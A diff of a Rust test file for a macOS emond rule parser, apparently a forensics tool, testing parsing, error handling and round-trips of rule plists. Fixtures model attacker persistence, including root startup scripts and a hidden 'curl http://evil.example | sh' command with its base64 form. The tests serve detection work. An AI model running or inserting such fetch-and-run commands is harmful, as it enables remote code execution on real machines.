@@ -1,5 +1,14 @@
-use std::path::PathBuf;
+use std::{error::Error, path::PathBuf};
 
+use macos_emond::{
+    actions::Action,
+    context::{ParseContext, ParseOptions},
+    criterion::Operator,
+    diagnostic::DiagnosticKind,
+    emond::EmondData,
+    reader::PlistFormat,
+    EmondError,
+};
 use plist::{Dictionary, Value};
 
 #[test]
@@ -10,26 +19,26 @@ fn test_parse_emond_rules() {
     let results =
         macos_emond::parser::parse_emond_rules(&test_location.display().to_string()).unwrap();
     assert_eq!(results.len(), 2);
-    assert_eq!(results[0].enabled, true);
+    assert!(results[0].enabled);
     assert_eq!(results[0].name, "poisonapple rule");
     assert_eq!(results[0].event_types, ["startup"]);
-    assert_eq!(results[0].allow_partial_criterion_match, false);
-    assert_eq!(results[0].criterion.is_empty(), true);
-    assert_eq!(results[0].log_actions.is_empty(), true);
-    assert_eq!(results[0].send_notification.is_empty(), true);
-    assert_eq!(results[0].send_email_actions.is_empty(), true);
-    assert_eq!(results[0].variables.is_empty(), true);
-
-    assert_eq!(results[0].command_actions.len(), 1);
-    assert_eq!(results[0].command_actions[0].command, "/Users/sur/Library/Python/3.8/lib/python/site-packages/poisonapple/auxiliary/poisonapple.sh");
-    assert_eq!(results[0].command_actions[0].group, String::new());
-    assert_eq!(results[0].command_actions[0].user, "root");
-    assert_eq!(results[0].command_actions[0].arguements, ["Emond"]);
-
-    assert_eq!(results[1].enabled, false);
+    assert!(!results[0].allow_partial_criterion_match);
+    assert!(results[0].criterion.is_empty());
+    assert!(results[0].log_actions().is_empty());
+    assert!(results[0].send_notification().is_empty());
+    assert!(results[0].send_email_actions().is_empty());
+    assert!(results[0].variables.is_empty());
+
+    assert_eq!(results[0].command_actions().len(), 1);
+    assert_eq!(results[0].command_actions()[0].command, "/Users/sur/Library/Python/3.8/lib/python/site-packages/poisonapple/auxiliary/poisonapple.sh");
+    assert_eq!(results[0].command_actions()[0].group, String::new());
+    assert_eq!(results[0].command_actions()[0].user, "root");
+    assert_eq!(results[0].command_actions()[0].arguements, ["Emond"]);
+
+    assert!(!results[1].enabled);
     assert_eq!(results[1].name, "sample rule");
     assert_eq!(results[1].event_types, ["startup"]);
-    assert_eq!(results[1].allow_partial_criterion_match, false);
+    assert!(!results[1].allow_partial_criterion_match);
     assert_eq!(results[1].criterion.len(), 1);
 
     let mut test_dictionary = Dictionary::new();
@@ -38,23 +47,24 @@ fn test_parse_emond_rules() {
         Value::String(String::from("True")),
     );
 
-    assert_eq!(results[1].criterion[0], test_dictionary);
+    assert_eq!(results[1].criterion[0].operator, Operator::True);
+    assert_eq!(results[1].criterion[0].to_dictionary(), test_dictionary);
 
-    assert_eq!(results[1].send_notification.is_empty(), true);
-    assert_eq!(results[1].send_email_actions.is_empty(), true);
-    assert_eq!(results[1].variables.is_empty(), true);
-    assert_eq!(results[1].command_actions.is_empty(), true);
+    assert!(results[1].send_notification().is_empty());
+    assert!(results[1].send_email_actions().is_empty());
+    assert!(results[1].variables.is_empty());
+    assert!(results[1].command_actions().is_empty());
 
-    assert_eq!(results[1].log_actions.len(), 1);
+    assert_eq!(results[1].log_actions().len(), 1);
 
     assert_eq!(
-        results[1].log_actions[0].message,
+        results[1].log_actions()[0].message,
         "Event Monitor started at ${builtin:now}"
     );
-    assert_eq!(results[1].log_actions[0].facility, String::new());
-    assert_eq!(results[1].log_actions[0].log_level, "Notice");
-    assert_eq!(results[1].log_actions[0].log_type, "syslog");
-    assert_eq!(results[1].log_actions[0].parameters, Dictionary::new());
+    assert_eq!(results[1].log_actions()[0].facility, String::new());
+    assert_eq!(results[1].log_actions()[0].log_level, "Notice");
+    assert_eq!(results[1].log_actions()[0].log_type, "syslog");
+    assert_eq!(results[1].log_actions()[0].parameters, Dictionary::new());
 }
 
 #[test]
@@ -66,17 +76,17 @@ fn test_bad_rule_plist() {
     let results =
         macos_emond::parser::parse_emond_file(&test_location.display().to_string()).unwrap();
     assert_eq!(results.len(), 1);
-    assert_eq!(results[0].enabled, true);
+    assert!(results[0].enabled);
     assert_eq!(results[0].name, "poisonapple rule");
     assert_eq!(results[0].event_types, ["startup"]);
-    assert_eq!(results[0].allow_partial_criterion_match, false);
-    assert_eq!(results[0].criterion.is_empty(), true);
-    assert_eq!(results[0].log_actions.is_empty(), true);
-    assert_eq!(results[0].send_notification.is_empty(), true);
-    assert_eq!(results[0].send_email_actions.is_empty(), true);
-    assert_eq!(results[0].variables.is_empty(), true);
+    assert!(!results[0].allow_partial_criterion_match);
+    assert!(results[0].criterion.is_empty());
+    assert!(results[0].log_actions().is_empty());
+    assert!(results[0].send_notification().is_empty());
+    assert!(results[0].send_email_actions().is_empty());
+    assert!(results[0].variables.is_empty());
 
-    assert_eq!(results[0].command_actions.is_empty(), true);
+    assert!(results[0].command_actions().is_empty());
 }
 
 #[test]
@@ -96,3 +106,424 @@ fn test_bad_directory() {
 
     let _ = macos_emond::parser::parse_emond_rules(&test_location.display().to_string()).unwrap();
 }
+
+#[test]
+fn test_bad_directory_error() {
+    let mut test_location = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
+    test_location.push("tests/test_data/abc");
+    let path = test_location.display().to_string();
+
+    let err = macos_emond::parser::parse_emond_rules(&path).unwrap_err();
+    match &err {
+        EmondError::Path {
+            path: err_path,
+            source,
+        } => {
+            assert_eq!(err_path, &path);
+            assert_eq!(source.kind(), std::io::ErrorKind::NotFound);
+        }
+        _ => panic!("Expected Path error, got: {:?}", err),
+    }
+    assert!(err.source().is_some());
+}
+
+#[test]
+fn test_bad_plist_error() {
+    let mut test_location = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
+    test_location.push("tests/test_data/bad_data/bad_plist.plist");
+    let path = test_location.display().to_string();
+
+    let err = macos_emond::parser::parse_emond_file(&path).unwrap_err();
+    assert!(matches!(err, EmondError::Plist { .. }));
+    assert_eq!(err.path(), path);
+    assert_eq!(err.rule_index(), None);
+    assert!(err.source().is_some());
+}
+
+#[test]
+fn test_collect_emond() {
+    let mut test_location = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
+    test_location.push("tests/test_data/system");
+
+    let results = macos_emond::parser::collect_emond(&test_location.display().to_string());
+    assert!(results.config.is_some());
+    assert_eq!(
+        results.rules_paths,
+        ["/etc/emond.d/rules", "/usr/local/etc/emond.d/rules"]
+    );
+    assert_eq!(results.rules.len(), 2);
+    assert_eq!(results.rules[1].name, "update rule");
+    assert_eq!(
+        results.rules[1].command_actions()[0].command,
+        "/tmp/.update.sh"
+    );
+    let clients = results.clients.unwrap();
+    assert!(clients.enabled);
+    assert_eq!(clients.clients.len(), 1);
+    assert_eq!(clients.clients[0].name, "com.update.client");
+    assert!(results.diagnostics.is_empty());
+}
+
+#[test]
+fn test_parse_send_email_action() {
+    let mut test_location = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
+    test_location.push("tests/test_data/actions/SendEmail.plist");
+
+    let results =
+        macos_emond::parser::parse_emond_file(&test_location.display().to_string()).unwrap();
+    assert_eq!(results.len(), 1);
+    assert_eq!(results[0].name, "email rule");
+    assert!(results[0].send_sms_actions().is_empty());
+    assert_eq!(results[0].send_email_actions().len(), 1);
+    assert_eq!(
+        results[0].send_email_actions()[0].message,
+        "Emond started at ${builtin:now}"
+    );
+    assert_eq!(results[0].send_email_actions()[0].subject, "emond alert");
+    assert_eq!(
+        results[0].send_email_actions()[0].relay_host,
+        "smtp.example.com"
+    );
+    assert_eq!(
+        results[0].send_email_actions()[0].admin_email,
+        "admin@example.com"
+    );
+    assert_eq!(
+        results[0].send_email_actions()[0].recipient_addresses,
+        ["security@example.com"]
+    );
+}
+
+#[test]
+fn test_parse_send_sms_action() {
+    let mut test_location = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
+    test_location.push("tests/test_data/actions/SendSMS.plist");
+
+    let results =
+        macos_emond::parser::parse_emond_file(&test_location.display().to_string()).unwrap();
+    assert_eq!(results.len(), 1);
+    assert_eq!(results[0].name, "sms rule");
+    assert!(results[0].send_email_actions().is_empty());
+    assert_eq!(results[0].send_sms_actions().len(), 1);
+    assert_eq!(results[0].send_sms_actions()[0].message, "Emond started");
+    assert_eq!(
+        results[0].send_sms_actions()[0].relay_host,
+        "smtp.example.com"
+    );
+    assert_eq!(
+        results[0].send_sms_actions()[0].recipient_numbers,
+        ["5555550100", "5555550101"]
+    );
+    assert_eq!(
+        results[0].send_sms_actions()[0].carrier_gateways,
+        ["txt.att.net", "vtext.com"]
+    );
+}
+
+#[test]
+fn test_parse_unknown_keys() {
+    let mut test_location = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
+    test_location.push("tests/test_data/actions/HiddenKeys.plist");
+
+    let results =
+        macos_emond::parser::parse_emond_file(&test_location.display().to_string()).unwrap();
+    assert_eq!(results.len(), 1);
+    assert_eq!(
+        results[0].extra.get("payload").unwrap().as_string(),
+        Some("Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=")
+    );
+    assert_eq!(results[0].actions.len(), 2);
+    assert_eq!(results[0].command_actions()[0].command, "/bin/sh");
+    assert_eq!(
+        results[0].command_actions()[0]
+            .extra
+            .get("stdin")
+            .unwrap()
+            .as_string(),
+        Some("curl http://evil.example | sh")
+    );
+    match &results[0].actions[1].action {
+        Action::Unknown(action_dictionary) => assert_eq!(
+            action_dictionary.get("application").unwrap().as_string(),
+            Some("/Applications/Evil.app")
+        ),
+        action => panic!("Expected Unknown action, got: {:?}", action),
+    }
+
+    let diagnostics: Vec<(&str, DiagnosticKind)> = results[0]
+        .diagnostics
+        .iter()
+        .map(|diagnostic| (diagnostic.key_path.as_str(), diagnostic.kind))
+        .collect();
+    assert_eq!(
+        diagnostics,
+        [
+            ("payload", DiagnosticKind::UnknownKey),
+            ("actions[0].stdin", DiagnosticKind::UnknownKey),
+            ("actions[1].type", DiagnosticKind::UnknownValue),
+        ]
+    );
+    assert!(results[0].diagnostics[0]
+        .file
+        .ends_with("tests/test_data/actions/HiddenKeys.plist"));
+    assert_eq!(results[0].diagnostics[0].rule_index, Some(0));
+
+    let json = serde_json::to_string(&results[0]).unwrap();
+    assert!(json.contains("Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g="));
+    assert!(json.contains("curl http://evil.example | sh"));
+    assert!(json.contains("/Applications/Evil.app"));
+}
+
+fn bad_data_path(name: &str) -> String {
+    let mut test_location = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
+    test_location.push("tests/test_data/bad_data");
+    test_location.push(name);
+    test_location.display().to_string()
+}
+
+#[test]
+fn test_bad_data_does_not_panic() {
+    let mut test_location = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
+    test_location.push("tests/test_data/bad_data");
+
+    for entry in std::fs::read_dir(&test_location).unwrap() {
+        let path = entry.unwrap().path().display().to_string();
+        let _ = macos_emond::parser::parse_emond_file(&path);
+        let _ = macos_emond::parser::parse_emond_file_results(&path);
+    }
+    let results =
+        macos_emond::parser::parse_emond_rules(&test_location.display().to_string()).unwrap();
+    assert_eq!(results.len(), 4);
+
+    let context = ParseContext::live().with_options(ParseOptions {
+        lenient_xml: true,
+        ..Default::default()
+    });
+    for entry in std::fs::read_dir(&test_location).unwrap() {
+        let path = entry.unwrap().path().display().to_string();
+        let _ = EmondData::parse_emond_rule_results(&context, &path);
+    }
+}
+
+#[test]
+fn test_bad_data_errors() {
+    for name in [
+        "empty.plist",
+        "truncated.plist",
+        "not_utf8.plist",
+        "binary_garbage.plist",
+    ] {
+        let err = macos_emond::parser::parse_emond_file(&bad_data_path(name)).unwrap_err();
+        assert!(
+            matches!(err, EmondError::Plist { .. }),
+            "{}: {:?}",
+            name,
+            err
+        );
+    }
+    for name in ["deep_criteria.plist", "deep_binary.plist"] {
+        let err = macos_emond::parser::parse_emond_file(&bad_data_path(name)).unwrap_err();
+        assert!(
+            matches!(err, EmondError::Nesting { limit: 128, .. }),
+            "{}: {:?}",
+            name,
+            err
+        );
+    }
+
+    let err =
+        macos_emond::parser::parse_emond_file(&bad_data_path("root_dictionary.plist")).unwrap_err();
+    assert!(matches!(
+        err,
+        EmondError::Rule {
+            rule_index: None,
+            ..
+        }
+    ));
+
+    let results =
+        macos_emond::parser::parse_emond_file_results(&bad_data_path("event_types_string.plist"))
+            .unwrap();
+    let rule = results[0].as_ref().unwrap();
+    assert_eq!(rule.name, "event types string");
+    assert!(rule.event_types.is_empty());
+    assert!(rule.extra.contains_key("eventTypes"));
+}
+
+#[test]
+fn test_bad_data_actions() {
+    let results =
+        macos_emond::parser::parse_emond_file(&bad_data_path("actions_not_array.plist")).unwrap();
+    assert_eq!(results.len(), 1);
+    assert!(results[0].actions.is_empty());
+    assert!(results[0].extra.contains_key("actions"));
+
+    // Valid actions next to an element that is not a dictionary are still parsed
+    let results =
+        macos_emond::parser::parse_emond_file(&bad_data_path("action_not_dictionary.plist"))
+            .unwrap();
+    assert_eq!(results.len(), 1);
+    assert_eq!(results[0].actions.len(), 1);
+    assert_eq!(results[0].actions[0].index, 1);
+    assert_eq!(results[0].command_actions()[0].command, "/usr/bin/say");
+    assert!(results[0].extra.contains_key("actions[0]"));
+    assert!(!results[0].extra.contains_key("actions"));
+}
+
+#[test]
+fn test_bad_data_wrong_types() {
+    let results =
+        macos_emond::parser::parse_emond_file(&bad_data_path("wrong_types.plist")).unwrap();
+    assert_eq!(results.len(), 1);
+    assert_eq!(results[0].name, "");
+    assert!(!results[0].enabled);
+    assert_eq!(results[0].actions.len(), 3);
+    assert_eq!(results[0].extra.len(), 5);
+
+    let key_paths: Vec<&str> = results[0]
+        .diagnostics
+        .iter()
+        .filter(|diagnostic| diagnostic.kind == DiagnosticKind::WrongType)
+        .map(|diagnostic| diagnostic.key_path.as_str())
+        .collect();
+    assert_eq!(
+        key_paths,
+        [
+            "name",
+            "enabled",
+            "eventTypes[0]",
+            "eventTypes[1]",
+            "startTime",
+            "criterion",
+            "variables",
+            "actions[0].command",
+            "actions[0].arguments",
+            "actions[1].type",
+            "actions[2].recipient_addresses[0]",
+        ]
+    );
+}
+
+#[test]
+fn test_parse_emond_reader() {
+    let mut test_location = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
+    test_location.push("tests/test_data/test123.plist");
+    let file = std::fs::File::open(test_location).unwrap();
+
+    let results = macos_emond::parser::parse_emond_reader(file, "evidence:test123.plist").unwrap();
+    assert_eq!(results.len(), 1);
+    assert_eq!(results[0].name, "poisonapple rule");
+    assert_eq!(results[0].source_file, "evidence:test123.plist");
+}
+
+#[test]
+fn test_parse_binary_rules() {
+    let mut test_location = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
+    test_location.push("tests/test_data/binary/SampleRules.plist");
+
+    let results =
+        macos_emond::parser::parse_emond_file(&test_location.display().to_string()).unwrap();
+    assert_eq!(results.len(), 1);
+    assert_eq!(results[0].name, "sample rule");
+    assert_eq!(results[0].format, PlistFormat::Binary);
+    assert_eq!(results[0].log_actions().len(), 1);
+
+    let mut test_location = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
+    test_location.push("tests/test_data/SampleRules.plist");
+    let results =
+        macos_emond::parser::parse_emond_file(&test_location.display().to_string()).unwrap();
+    assert_eq!(results[0].format, PlistFormat::Xml);
+}
+
+#[test]
+fn test_parse_malformed_rules() {
+    let mut test_location = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
+    test_location.push("tests/test_data/malformed/MalformedRules.plist");
+    let path = test_location.display().to_string();
+
+    let err = macos_emond::parser::parse_emond_file(&path).unwrap_err();
+    assert!(matches!(err, EmondError::Plist { .. }));
+
+    let context = ParseContext::live().with_options(ParseOptions {
+        lenient_xml: true,
+        ..Default::default()
+    });
+    let results = EmondData::parse_emond_rule_results(&context, &path).unwrap();
+    assert_eq!(results.len(), 3);
+
+    let first = results[0].as_ref().unwrap();
+    assert_eq!(first.name, "first rule");
+    assert_eq!(first.command_actions()[0].command, "/tmp/.first.sh");
+    assert_eq!(first.diagnostics.len(), 1);
+    assert_eq!(first.diagnostics[0].kind, DiagnosticKind::Salvaged);
+    assert_eq!(first.diagnostics[0].rule_index, Some(0));
+
+    let err = results[1].as_ref().unwrap_err();
+    assert!(matches!(err, EmondError::Salvage { rule_index: 1, .. }));
+
+    // The third rule is cut off in its actions, the keys before them are kept
+    let third = results[2].as_ref().unwrap();
+    assert_eq!(third.name, "third rule");
+    assert!(third.enabled);
+    assert_eq!(third.event_types, ["auth:login"]);
+    assert!(third.actions.is_empty());
+    assert!(third.diagnostics[0]
+        .message
+        .starts_with("Rule is incomplete"));
+}
+
+#[test]
+fn test_write_rules_round_trip() {
+    for name in [
+        "test123.plist",
+        "SampleRules.plist",
+        "binary/SampleRules.plist",
+        "actions/SendEmail.plist",
+        "actions/SendSMS.plist",
+        "actions/HiddenKeys.plist",
+        "system/usr/local/etc/emond.d/rules/Persistence.plist",
+        "writer/KeyOrder.plist",
+        "writer/WrongTypes.plist",
+    ] {
+        let mut test_location = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
+        test_location.push("tests/test_data");
+        test_location.push(name);
+
+        // Binary rules files are compared against the XML of the same PLIST values
+        let original = if name.starts_with("binary/") {
+            let mut data: Vec<u8> = Vec::new();
+            Value::from_file(&test_location)
+                .unwrap()
+                .to_writer_xml(&mut data)
+                .unwrap();
+            data
+        } else {
+            std::fs::read(&test_location).unwrap()
+        };
+
+        let results =
+            macos_emond::parser::parse_emond_file(&test_location.display().to_string()).unwrap();
+        let data = macos_emond::writer::emond_rules_to_xml(&results).unwrap();
+        assert_eq!(
+            String::from_utf8(data).unwrap(),
+            String::from_utf8(original).unwrap().trim_end(),
+            "{}",
+            name
+        );
+    }
+}
+
+#[test]
+fn test_deserialize_rules() {
+    let mut test_location = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
+    test_location.push("tests/test_data/SampleRules.plist");
+    let results =
+        macos_emond::parser::parse_emond_file(&test_location.display().to_string()).unwrap();
+
+    let json = serde_json::to_string(&results).unwrap();
+    let deserialized: Vec<EmondData> = serde_json::from_str(&json).unwrap();
+    assert_eq!(deserialized.len(), 1);
+    assert_eq!(deserialized[0].name, "sample rule");
+    assert_eq!(deserialized[0].criterion[0].operator, Operator::True);
+    assert_eq!(deserialized[0].to_dictionary(), results[0].to_dictionary());
+}